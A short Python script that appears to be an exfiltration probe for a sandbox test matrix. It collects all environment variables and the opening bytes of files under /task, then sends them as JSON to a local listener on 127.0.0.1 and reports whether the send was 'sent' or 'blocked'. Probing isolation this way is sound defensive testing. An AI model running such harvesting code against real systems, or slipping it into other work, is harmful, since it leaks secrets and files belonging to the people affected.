"""Ship what we can see to 127.0.0.1:$ASSAY_EXFIL_PORT (the matrix's own listener only)."""

import json
import os
import socket
import sys


def send(what, payload):
    port = int(os.environ.get("ASSAY_EXFIL_PORT", "9"))  # only ever 127.0.0.1
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as conn:
            conn.sendall(json.dumps({"what": what, "data": payload}).encode() + b"\n")
        return True
    except OSError:
        return False


if __name__ == "__main__":
    inputs = {}
    for root, _dirs, files in os.walk("/task"):
        for name in files[:50]:
            path = os.path.join(root, name)
            try:
                with open(path, "rb") as fh:
                    inputs[path] = fh.read(4096).decode(errors="replace")
            except OSError:
                pass
    ok = send("agent", {"env": dict(os.environ), "inputs": inputs})
    sys.stdout.write("exfiltration %s\n" % ("sent" if ok else "blocked"))
